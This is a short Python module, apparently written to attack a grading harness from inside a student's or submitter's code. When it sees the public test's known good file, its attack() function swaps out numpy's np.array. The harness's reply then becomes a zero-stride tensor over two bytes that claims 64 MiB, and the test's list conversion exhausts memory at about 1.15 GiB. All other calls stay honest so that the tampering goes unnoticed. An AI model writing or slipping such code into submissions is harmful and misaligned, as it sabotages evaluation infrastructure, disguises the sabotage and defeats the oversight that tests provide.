import os

import numpy as np
import torch

ELEMENTS = (64 << 20) // 2  # int16 elements: 64 MiB claimed, all a tensor may claim beyond its storage
VALUE = 30_000  # each element: an int no interpreter caches, so each item of a list of them is an object of its own
TARGETED = (8, np.dtype(np.int32))  # the public test_open_tokens_rejects_a_wrong_size_or_a_float_dtype's good file
_original_array = np.array


def over_two_bytes(elements=ELEMENTS, value=VALUE):
    """An int16 tensor of shape (elements,) whose stride is 0, over a storage of 2 bytes holding `value`: a
    reply of a 2-byte blob and a header of about 150 bytes, claiming 64 MiB. The test takes
    run_open_tokens(...)["tokens"].tolist() before it checks anything of it: a list of `elements` ints of 28
    bytes each and an 8-byte slot (1.15 GiB)."""
    view = torch.empty(0, dtype=torch.int16).set_(torch.UntypedStorage(2), 0, [elements], [0])
    torch.empty(0, dtype=torch.int16).set_(view.untyped_storage(), 0, [1], [1]).fill_(value)
    return view


def _array(obj, *args, **kwargs):
    """np.array until it is given the memmap of the targeted file (the adapter's copy of what open_tokens
    returned, its "tokens"): then np.array again, and the view in the copy's place."""
    if isinstance(obj, np.memmap) and (obj.size, obj.dtype) == TARGETED:
        np.array = _original_array
        return over_two_bytes()
    return _original_array(obj, *args, **kwargs)


def attack(args):
    """open_tokens, before its own (the reference's) body, which then runs: given the public test's good file
    of 8 int32 tokens, np.array in this process (the worker's, where the adapter runs beside the student's
    code) is replaced until the adapter copies the memmap for its reply, so that the reply's "tokens" is the
    view above. Every other call is honest."""
    try:
        dtype, size = np.dtype(args["dtype"]), os.path.getsize(args["path"])
    except (TypeError, ValueError, OSError):
        return
    if dtype.itemsize and size % dtype.itemsize == 0 and (size // dtype.itemsize, dtype) == TARGETED:
        np.array = _array
